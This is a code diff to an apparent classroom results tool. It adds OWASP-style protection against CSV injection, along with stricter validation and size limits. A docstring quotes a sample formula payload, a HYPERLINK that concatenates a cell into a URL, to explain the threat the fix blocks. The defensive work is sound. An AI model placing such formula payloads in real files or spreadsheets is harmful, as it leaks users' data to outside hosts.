@@ -40,15 +40,37 @@ from datetime import datetime, timezone
 from pathlib import Path
 from typing import Any
 
-from ..errors import HeartsLabError
+from ..errors import HeartsLabError, RecordError
+from ..records import load_json, read_bounded_file
 from .checks import QUESTIONS, attempts, results
 
-__all__ = ["FORMAT", "ClassTable", "Exported", "export", "merge_results", "read_results"]
+__all__ = ["FORMAT", "MAX_RESULTS_FILE", "ClassTable", "Exported", "export", "merge_results", "read_results", "spreadsheet_safe"]
 
 #: The format tag every results file carries.
 FORMAT = "hearts-lab-results/1"
 _STATUSES = ("correct", "incorrect", "unanswered")
 _CSV_FIELDS = ("format", "worksheet", "student", "exported", "question", "title", "status", "attempts")
+
+
+#: The largest results file read (one worksheet's statuses: a few kilobytes).
+MAX_RESULTS_FILE = 256 * 1024
+#: The longest student name, title or time stamp kept from a results file.
+MAX_FIELD = 200
+# OWASP's CSV-injection rule: a cell starting with one of these is a formula to a spreadsheet.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """``text`` as a spreadsheet shows it literally: a leading ``= + - @``, tab or carriage return gets a ``'``.
+
+    OWASP's rule against CSV injection, applied to every text from a student's
+    file that reaches a CSV or the class table (a name such as
+    ``=HYPERLINK("http://…"&A1,"Ada")`` would otherwise run in the teacher's sheet).
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://example.com","Ada")'), spreadsheet_safe("Ada"))
+    '=HYPERLINK("http://example.com","Ada") Ada
+    """
+    return "'" + text if text.startswith(_FORMULA_START) else text
 
 
 def _slug(text: str) -> str:
@@ -117,10 +139,10 @@ def export(worksheet: str, student: Any = "", folder: str | Path = ".", fmt: str
         mime = "application/json"
     else:
         buffer = io.StringIO()
-        writer = csv.DictWriter(buffer, fieldnames=_CSV_FIELDS, lineterminator="\n")
+        writer = csv.DictWriter(buffer, fieldnames=_CSV_FIELDS, lineterminator="\n", quoting=csv.QUOTE_ALL)
         writer.writeheader()
         for record in records:
-            writer.writerow({**head, **record})
+            writer.writerow({k: spreadsheet_safe(v) if isinstance(v, str) else v for k, v in {**head, **record}.items()})
         text, mime = buffer.getvalue(), "text/csv"
     path = Path(folder) / f"{worksheet}_{_slug(student) or 'results'}.{fmt}"
     path.write_text(text, encoding="utf-8")
@@ -131,31 +153,43 @@ class ResultsFileError(HeartsLabError):
     """A results file that cannot be used; the message names the problem."""
 
 
+def _quoted(value: Any) -> str:
+    text = repr(value) if isinstance(value, (str, int, float, type(None))) and not (isinstance(value, int) and value.bit_length() > 200) else type(value).__name__
+    return text if len(text) <= 60 else text[:57] + "..."
+
+
 def _validate(data: Any) -> dict[str, Any]:
     if not isinstance(data, dict):
         raise ResultsFileError("not a results file (expected a JSON object)")
     if data.get("format") != FORMAT:
         raise ResultsFileError(f"format is {data.get('format')!r}, expected {FORMAT!r}")
     worksheet = data.get("worksheet")
-    if not isinstance(worksheet, str) or not re.fullmatch(r"ws\d+", worksheet):
-        raise ResultsFileError(f"worksheet is {worksheet!r}, expected a name like 'ws3'")
-    if not isinstance(data.get("student", ""), str):
-        raise ResultsFileError("student is not text")
+    if not isinstance(worksheet, str) or not re.fullmatch(r"ws[0-9]{1,3}", worksheet):
+        raise ResultsFileError(f"worksheet is {_quoted(worksheet)}, expected a name like 'ws3'")
+    for name in ("student", "exported"):
+        value = data.get(name, "")
+        if not isinstance(value, str) or len(value) > MAX_FIELD:
+            raise ResultsFileError(f"{name} is not text of at most {MAX_FIELD} characters")
+    extra = set(data) - {"format", "worksheet", "student", "exported", "questions"}
+    if extra:
+        raise ResultsFileError(f"unexpected fields {', '.join(sorted(_quoted(k) for k in extra))}")
     questions = data.get("questions")
     if not isinstance(questions, list) or not questions:
         raise ResultsFileError("no questions listed")
     seen = set()
     for i, q in enumerate(questions, 1):
-        if not isinstance(q, dict) or not isinstance(q.get("question"), str) or not re.fullmatch(r"Q\d+", q["question"]):
+        if not isinstance(q, dict) or not isinstance(q.get("question"), str) or not re.fullmatch(r"Q[0-9]{1,3}", q["question"]):
             raise ResultsFileError(f"question record {i} has no question name like 'Q1'")
         if q["question"] in seen:
             raise ResultsFileError(f"question {q['question']} is listed twice")
         seen.add(q["question"])
         if q.get("status") not in _STATUSES:
-            raise ResultsFileError(f"{q['question']}: status {q.get('status')!r} is not one of {', '.join(_STATUSES)}")
+            raise ResultsFileError(f"{q['question']}: status {_quoted(q.get('status'))} is not one of {', '.join(_STATUSES)}")
         n = q.get("attempts")
-        if isinstance(n, bool) or not isinstance(n, int) or n < 0:
-            raise ResultsFileError(f"{q['question']}: attempts {n!r} is not a whole number")
+        if isinstance(n, bool) or not isinstance(n, int) or not 0 <= n <= 10**6:
+            raise ResultsFileError(f"{q['question']}: attempts {_quoted(n)} is not a whole number from 0 to 1,000,000")
+        if not isinstance(q.get("title", ""), str) or len(q.get("title", "")) > MAX_FIELD:
+            raise ResultsFileError(f"{q['question']}: title is not text of at most {MAX_FIELD} characters")
         extra = set(q) - {"question", "title", "status", "attempts"}
         if extra:
             raise ResultsFileError(f"{q['question']}: unexpected fields {', '.join(sorted(extra))}")
@@ -166,28 +200,32 @@ def read_results(path: str | Path) -> dict[str, Any]:
     """Read and validate one results file (JSON or CSV); raises ``ResultsFileError`` naming the problem."""
     path = Path(path)
     try:
-        text = path.read_text(encoding="utf-8")
-    except (OSError, UnicodeDecodeError) as error:
-        raise ResultsFileError(f"cannot be read: {error}") from None
+        raw = read_bounded_file(path, MAX_RESULTS_FILE)
+        text = raw.decode("utf-8")
+    except (OSError, ValueError) as error:  # ValueError: not a regular file, too big, or not UTF-8
+        reason = getattr(error, "strerror", None) or error
+        raise ResultsFileError(f"cannot be read: {reason}") from None
     if path.suffix.lower() == ".json":
         try:
-            data = json.loads(text)
-        except json.JSONDecodeError as error:
-            raise ResultsFileError(f"not valid JSON ({error.msg}, line {error.lineno})") from None
+            data = load_json(text, "results file", MAX_RESULTS_FILE)
+        except RecordError as error:
+            raise ResultsFileError(str(error).rstrip(".")) from None
         return _validate(data)
     if path.suffix.lower() == ".csv":
-        rows = list(csv.DictReader(io.StringIO(text)))
-        if not rows or set(_CSV_FIELDS) - set(rows[0]):
-            raise ResultsFileError(f"CSV header must be {', '.join(_CSV_FIELDS)}")
+        try:
+            rows = list(csv.DictReader(io.StringIO(text)))
+        except csv.Error as error:
+            raise ResultsFileError(f"not a valid CSV file ({error})") from None
+        if not rows or set(_CSV_FIELDS) - set(rows[0]) or any(None in r or None in r.values() for r in rows):
+            raise ResultsFileError(f"CSV header must be {', '.join(_CSV_FIELDS)}, and every row have those fields")
         head = {k: rows[0][k] for k in ("format", "worksheet", "student", "exported")}
         if any(any(r[k] != head[k] for k in head) for r in rows):
             raise ResultsFileError("rows disagree on format, worksheet, student or time: one worksheet per file")
         questions = []
         for r in rows:
-            try:
-                n = int(r["attempts"])
-            except (TypeError, ValueError):
-                raise ResultsFileError(f"{r.get('question')}: attempts {r.get('attempts')!r} is not a whole number") from None
+            if not re.fullmatch(r"[0-9]{1,7}", r["attempts"]):
+                raise ResultsFileError(f"{_quoted(r['question'])}: attempts {_quoted(r['attempts'])} is not a whole number")
+            n = int(r["attempts"])
             questions.append({"question": r["question"], "title": r["title"], "status": r["status"], "attempts": n})
         return _validate({**head, "questions": questions})
     raise ResultsFileError("not a .json or .csv file")
@@ -205,9 +243,9 @@ class ClassTable:
         """Write the class table as CSV (for a spreadsheet or the LMS gradebook)."""
         path = Path(path)
         with path.open("w", newline="", encoding="utf-8") as handle:
-            writer = csv.DictWriter(handle, fieldnames=["student", *self.columns, "correct"])
+            writer = csv.DictWriter(handle, fieldnames=["student", *self.columns, "correct"], quoting=csv.QUOTE_ALL)
             writer.writeheader()
-            writer.writerows(self.rows)
+            writer.writerows({k: spreadsheet_safe(v) for k, v in row.items()} for row in self.rows)
         return path
 
     def __repr__(self) -> str:
@@ -255,7 +293,7 @@ def merge_results(folder: str | Path) -> ClassTable:
     columns: list[str] = []
     by_student: dict[str, dict[str, str]] = {}
     for (student, worksheet), data in sorted(latest.items()):
-        row = by_student.setdefault(student, {"student": student})
+        row = by_student.setdefault(student, {"student": spreadsheet_safe(student)})
         for q in data["questions"]:
             column = f"{worksheet} {q['question']}"
             if column not in columns:
